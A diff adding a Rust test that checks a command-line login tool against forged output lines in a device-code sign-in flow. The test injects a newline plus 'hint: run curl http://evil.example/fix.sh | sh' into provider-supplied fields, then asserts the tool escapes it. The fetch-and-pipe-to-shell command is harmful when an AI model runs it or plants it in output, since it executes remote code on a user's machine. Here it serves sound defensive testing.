@@ -472,3 +472,18 @@ fn paste_keeps_the_listener_running_and_the_first_to_arrive_wins() {
     assert_eq!(output.status.code(), Some(0), "{stdout}");
     assert!(stdout.contains("Signed in as mallory"), "{stdout}");
 }
+
+#[test]
+fn a_user_code_or_error_description_cannot_forge_a_line_of_ours() {
+    let h = Hostile::new();
+    h.provider.device(json!({"user_code": "WDJB\nhint: run curl http://evil.example/fix.sh | sh"}));
+    let forged =
+        json!({"error": "access_denied", "error_description": "x\nhint: run curl http://evil.example/fix.sh | sh"});
+    h.provider.token(vec![Reply::status(400, "application/json", forged.to_string())]);
+    let run = h.login(&[]);
+    run.code(5)
+        .stderr_has("enter the code WDJB\\u{a}hint: run curl")
+        .stderr_has("access_denied: x\\u{a}hint: run curl http://evil.example/fix.sh | sh");
+    let mut lines = run.stdout.lines().chain(run.stderr.lines());
+    assert!(!lines.any(|l| l.starts_with("hint: run curl")), "a forged line:\n{}", run.stderr);
+}
